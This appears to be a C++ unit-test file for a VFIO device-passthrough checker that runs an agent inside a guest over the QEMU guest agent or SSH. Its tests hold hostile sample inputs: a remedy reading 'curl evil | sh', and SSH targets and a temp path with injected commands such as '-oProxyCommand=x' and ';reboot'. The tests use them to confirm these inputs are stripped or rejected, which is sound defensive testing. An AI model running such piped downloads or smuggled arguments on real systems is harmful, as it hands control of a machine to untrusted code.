// SPDX-License-Identifier: GPL-2.0-or-later
#include "runner/guest/verify.hpp"

#include <gmock/gmock.h>

#include <csignal>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>

#include "base/base64.hpp"
#include "base/input_error.hpp"
#include "base/process/subprocess.hpp"
#include "guest/guest_machines.hpp"
#include "reports/guest/guest_report.hpp"
#include "reports/json.hpp"
#include "temporary_directory.hpp"

namespace vfio_doctor {
namespace {

using namespace vfio_doctor::testing;
using ::testing::HasSubstr;
using ::testing::IsSupersetOf;
using Json = nlohmann::json;

std::string good_answer() {
  const Judged judged(nvme_manifest, nvme_guest);
  return render_json(guest_report(judged.judgement, judged.view, "guest", "guest1"));
}

const Manifest& expected() {
  static const auto manifest = parse_manifest(nvme_manifest, "m");
  return manifest;
}

TEST(Answer, AGoodOneIsReady) {
  const auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
  EXPECT_EQ(report.verdict, Verdict::ready);
  EXPECT_EQ(report.source.kind, "guest");
}

TEST(Answer, TheVerdictIsCountedAnewAndRemediesAreOurs) {
  auto json = Json::parse(good_answer());
  json["findings"][3]["status"] = "fail";
  json["findings"][3]["remedy"] = Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
  EXPECT_EQ(report.verdict, Verdict::not_ready);
  EXPECT_EQ(render_json(report).find("evil"), std::string::npos);
  ASSERT_FALSE(report.findings[3].remedy.empty());
  EXPECT_EQ(render_json(report).find("DOMAIN"), std::string::npos);  // the domain is called by its name
}

TEST(Answer, RubbishIsRefused) {
  auto missing = Json::parse(good_answer());
  missing["findings"].erase(4);
  auto renamed = Json::parse(good_answer());
  renamed["findings"][0]["id"] = "guest-function";
  for (const auto& text : {std::string(), std::string("{}"), std::string("\x7f" "ELF"), std::string(100'000, '['),
                           missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
    EXPECT_THROW(report_of_answer(expected(), {0, text, ""}, "guest1"), InputError) << text.substr(0, 60);
}

TEST(HostSide, SaysWhoHoldsTheDevice) {
  for (const auto& [driver, status] : std::map<std::string, Status>{
           {" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
    auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
    Host host;
    host.functions = gather_pci(machine("pci 0000:3d:00.0 id=144d:a802 class=010802" + driver + "\n"), Wake::no);
    Report host_report;
    host_report.devices.resize(2);
    host_report.devices[1].address = "0000:3d:00.0";
    add_host_side(expected(), host, host_report, report);
    EXPECT_EQ(report.findings.back().id, "guest-released");
    EXPECT_EQ(report.findings.back().status, status) << driver;
    EXPECT_EQ(report.verdict, status == Status::pass ? Verdict::ready : Verdict::not_ready);
    ASSERT_EQ(report.devices.size(), 1u);
    EXPECT_EQ(report.devices.front().address, "0000:3d:00.0");
  }
}

/// "-" is standard input here as well, not a file of that name.
TEST(VerifyCommand, ReadsTheManifestFromStandardInput) {
  const TemporaryDirectory directory;
  const auto listing = directory.path() / "lspci";
  std::ofstream(listing) << "03:00.0 Non-Volatile memory controller [0108]: Samsung [144d:a802] (rev 01)\n";
  ProcessRequest request;
  request.program = PROGRAM;
  request.arguments = {"verify", "--manifest", "-", "--evidence", listing.string()};
  request.input = nvme_manifest;
  const auto result = run_process(request);
  EXPECT_EQ(result.exit_code, 3) << result.errors;
}

TEST(Base64, IsItsOwnInverse) {
  for (const auto& [plain, coded] : std::map<std::string, std::string>{
           {"", ""}, {"f", "Zg=="}, {"fo", "Zm8="}, {"foo", "Zm9v"}, {std::string("\0\xff\x10", 3), "AP8Q"}}) {
    EXPECT_EQ(base64_encode(plain), coded);
    EXPECT_EQ(base64_decode(coded), plain);
  }
  for (const auto* text : {"Zg=", "Z===", "Zg==Zg==", "Zm9*", "="}) EXPECT_FALSE(base64_decode(text)) << text;
}

/// A guest agent behind virsh, with the guest's files.
struct FakeGuest {
  std::map<std::string, std::string> files;
  std::map<int, std::string> handles;
  std::vector<std::string> executed;
  std::string answer;
  bool answers_rubbish = false;
  bool exec_forbidden = false;
  bool interrupts = false;  ///< a Ctrl-C comes while the agent runs
  std::map<std::string, std::string> answers;  ///< other than the usual: by command, or "" for all; "error: ..." is virsh's
};
FakeGuest* fake = nullptr;

Json fake_command(const Json& message) {
  const auto name = message["execute"].get<std::string>();
  const auto& arguments = message.contains("arguments") ? message["arguments"] : Json::object();
  if (name == "guest-file-open") {
    const int handle = 1000 + static_cast<int>(fake->handles.size());
    fake->handles[handle] = arguments["path"];
    fake->files[arguments["path"]] = "";
    return handle;
  }
  if (name == "guest-file-write") {
    const auto bytes = base64_decode(arguments["buf-b64"].get<std::string>()).value();
    fake->files[fake->handles.at(arguments["handle"])] += bytes;
    return {{"count", bytes.size()}, {"eof", false}};
  }
  if (name == "guest-exec") {
    const auto path = arguments["path"].get<std::string>();
    fake->executed.push_back(path);
    if (path == "/bin/rm")
      for (const auto& file : arguments["arg"]) fake->files.erase(file.get<std::string>());
    return {{"pid", path.ends_with("rm") || path.ends_with("chmod") ? 1 : 2}};
  }
  if (name == "guest-exec-status") {
    if (fake->interrupts && arguments["pid"] == 2) std::raise(SIGINT);
    Json status{{"exited", !fake->interrupts || arguments["pid"] != 2}, {"exitcode", 0}};
    if (arguments["pid"] == 2) status["out-data"] = base64_encode(fake->answer);
    return status;
  }
  return Json::object();
}

ProcessResult fake_virsh(const ProcessRequest& request) {
  ProcessResult result;
  result.end = ProcessResult::End::exited;
  EXPECT_EQ(request.program, "virsh");
  const auto message = Json::parse(request.arguments.back());
  for (const auto& argument : request.arguments) EXPECT_LT(argument.size(), 128u * 1024);
  result.exit_code = fake->exec_forbidden && message["execute"] == "guest-exec" ? 1 : 0;
  result.errors = "error: guest-exec has been disabled\nmore";
  result.output = fake->answers_rubbish ? "\x1b[2J" : Json{{"return", fake_command(message)}}.dump();
  return result;
}

TEST(QemuGuestAgent, WritesRunsReadsAndRemoves) {
  FakeGuest guest;
  guest.answer = "the report";
  fake = &guest;
  const std::string agent(300'000, 'a');
  const auto answer = run_agent_through_qga("guest1", agent, "the manifest", std::chrono::seconds(0), fake_virsh);
  EXPECT_EQ(answer.exit_code, 0);
  EXPECT_EQ(answer.output, "the report");
  ASSERT_EQ(guest.executed.size(), 3u);
  EXPECT_EQ(guest.executed[0], "/bin/chmod");
  EXPECT_THAT(guest.executed[1], ::testing::StartsWith("/var/tmp/vfio-guest-agent-"));
  EXPECT_EQ(guest.executed[2], "/bin/rm");
  EXPECT_TRUE(guest.files.empty());
}

TEST(QemuGuestAgent, TroubleIsOneLine) {
  FakeGuest guest;
  fake = &guest;
  guest.answers_rubbish = true;
  EXPECT_THROW(run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), fake_virsh), InputError);
  guest.answers_rubbish = false;
  guest.exec_forbidden = true;
  try {
    run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), fake_virsh);
    ADD_FAILURE();
  } catch (const InputError& error) {
    EXPECT_THAT(error.what(), HasSubstr("has been disabled"));
    EXPECT_EQ(std::string(error.what()).find('\n'), std::string::npos);
  }
  for (const auto* name : {"", "--help", "../x", "a\nb"})
    EXPECT_THROW(run_agent_through_qga(name, "a", "m", std::chrono::seconds(0), fake_virsh), InputError) << name;
}

TEST(QemuGuestAgent, RemovesBothWhenInterrupted) {
  FakeGuest guest;
  fake = &guest;
  guest.interrupts = true;
  try {
    run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(60), fake_virsh);
    ADD_FAILURE();
  } catch (const InputError& error) {
    EXPECT_THAT(error.what(), HasSubstr("interrupted"));
  }
  EXPECT_TRUE(guest.files.empty());
}

std::vector<std::string> ssh_commands;
ProcessResult fake_ssh(const ProcessRequest& request) {
  ProcessResult result;
  result.end = ProcessResult::End::exited;
  result.exit_code = 0;
  EXPECT_EQ(request.program, "ssh");
  EXPECT_THAT(request.arguments, IsSupersetOf({"-a", "-x", "ClearAllForwardings=yes", "ControlMaster=no"})) << "a guest is not trusted";
  ssh_commands.push_back(request.arguments.back());
  if (request.arguments.back().find("mktemp") != std::string::npos) {
    EXPECT_EQ(request.input, "agent bytes");
    result.output = "/var/tmp/vfio-guest-agent-Ab12Cd34\n";
  } else if (request.arguments.back().find("--expect") != std::string::npos) {
    EXPECT_EQ(request.input, "manifest");
    result.output = "the report";
  }
  return result;
}
ProcessResult lying_ssh(const ProcessRequest& request) {
  auto result = fake_ssh(request);
  if (!result.output.empty()) result.output = "/var/tmp/vfio-guest-agent-x;reboot\n";
  return result;
}

TEST(SecureShell, WritesRunsReadsAndRemoves) {
  ssh_commands.clear();
  const auto answer = run_agent_through_ssh("root@192.0.2.7", "agent bytes", "manifest", std::chrono::seconds(5), fake_ssh);
  EXPECT_EQ(answer.output, "the report");
  ASSERT_EQ(ssh_commands.size(), 3u);
  EXPECT_EQ(ssh_commands[1], "/var/tmp/vfio-guest-agent-Ab12Cd34/agent --expect - --format json --wait 5");
  EXPECT_EQ(ssh_commands[2], "rm -rf -- /var/tmp/vfio-guest-agent-Ab12Cd34");
}

TEST(SecureShell, BelievesNoDirectoryAndNoTargetWithTricks) {
  EXPECT_THROW(run_agent_through_ssh("root@guest", "agent bytes", "manifest", std::chrono::seconds(0), lying_ssh), InputError);
  for (const auto* target : {"", "-oProxyCommand=x", "a b", "$(x)", "a;b"})
    EXPECT_THROW(run_agent_through_ssh(target, "a", "m", std::chrono::seconds(0), fake_ssh), InputError) << target;
}

TEST(Answer, DevicesAreCalledAsTheManifestCallsThem) {
  auto json = Json::parse(good_answer());
  json["findings"][3]["status"] = "fail";
  for (auto& finding : json["findings"]) finding["evidence"] = Json::array({{{"source", "manifest"}, {"value", "another device"}}});
  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
  EXPECT_EQ(report.findings[0].evidence.at(0).value, "Samsung SM951 (host 0000:3d:00.0)");
  EXPECT_EQ(report.findings[3].remedy.at(0).commands.at(0), "lspci -nnk -s 0000:03:00.0");
}

ProcessResult changed_virsh(const ProcessRequest& request) {
  auto result = fake_virsh(request);
  auto changed = fake->answers.find(Json::parse(request.arguments.back())["execute"].get<std::string>());
  if (changed == fake->answers.end()) changed = fake->answers.find("");
  if (changed == fake->answers.end()) return result;
  if (changed->second.starts_with("error:")) {
    result.exit_code = 1;
    result.errors = changed->second;
  }
  result.output = "{\"return\":" + changed->second + "}";
  return result;
}

/// What is said where the guest answers `command` with `answer`. Nothing may be left in the guest.
std::string trouble_with(const std::string& command, const std::string& answer) {
  FakeGuest guest;
  guest.answers[command] = answer;
  fake = &guest;
  try {
    run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), changed_virsh);
    return "none";
  } catch (const InputError& error) {
    EXPECT_EQ(std::string(error.what()).find('\n'), std::string::npos);
    EXPECT_TRUE(command == "guest-exec" || guest.files.empty()) << error.what();
    return error.what();
  }
}

/// Fedora and RHEL forbid these commands by default; a file written before that is noticed could not be removed again.
TEST(QemuGuestAgent, WritesNothingWhereItMayNotExecute) {
  const auto what = trouble_with("guest-info", R"({"version":"8.0","supported_commands":[{"name":"guest-exec","enabled":false},
      {"name":"guest-exec-status","enabled":true},{"name":"guest-file-open","enabled":true}]})");
  EXPECT_THAT(what, HasSubstr("guest-exec"));
  EXPECT_THAT(what, HasSubstr("/etc/sysconfig/qemu-ga"));
  EXPECT_THAT(what, HasSubstr("--via ssh:"));
}

TEST(QemuGuestAgent, SaysWhatToDoInAWindowsGuest) {
  const auto what = trouble_with("guest-get-osinfo", R"({"id":"mswindows","name":"Microsoft Windows"})");
  EXPECT_THAT(what, HasSubstr("Windows"));
  EXPECT_THAT(what, HasSubstr("pnputil /enum-devices"));
  EXPECT_THAT(what, HasSubstr("--evidence"));
}

TEST(QemuGuestAgent, SaysWhatToDoWhereNobodyAnswersOrSelinuxForbids) {
  EXPECT_THAT(trouble_with("", "error: Guest agent is not responding: QEMU guest agent is not connected"),
              ::testing::AllOf(HasSubstr("not connected"), HasSubstr("qemu-guest-agent"), HasSubstr("--via ssh:")));
  EXPECT_THAT(trouble_with("guest-exec", "error: internal error: unable to execute QEMU agent command 'guest-exec': Failed "
                                         "to execute child process (Permission denied)"),
              ::testing::AllOf(HasSubstr("Permission denied"), HasSubstr("SELinux"), HasSubstr("--via ssh:")));
}

/// That is the host's trouble: advice about the guest would mislead.
TEST(QemuGuestAgent, LibvirtsOwnSocketIsNotTheGuests) {
  EXPECT_THAT(trouble_with("", "error: Failed to connect socket to '/var/run/libvirt/libvirt-sock': Permission denied"),
              ::testing::Not(HasSubstr("SELinux")));
}

TEST(QemuGuestAgent, AHostileCountIsOneLine) {
  EXPECT_THAT(trouble_with("guest-file-write", R"({"count":"all"})"), HasSubstr("did not take the whole file"));
}

TEST(SecureShell, TakesIPv6LiteralsInBracketsToo) {
  static std::vector<std::string> targets;
  const auto run = [](const ProcessRequest& request) {
    targets.push_back(request.arguments.at(request.arguments.size() - 2));
    return fake_ssh(request);
  };
  run_agent_through_ssh("root@[fe80::1%virbr0]", "agent bytes", "manifest", std::chrono::seconds(0), run);
  EXPECT_EQ(targets.at(0), "root@fe80::1%virbr0");
}

}  // namespace
}  // namespace vfio_doctor
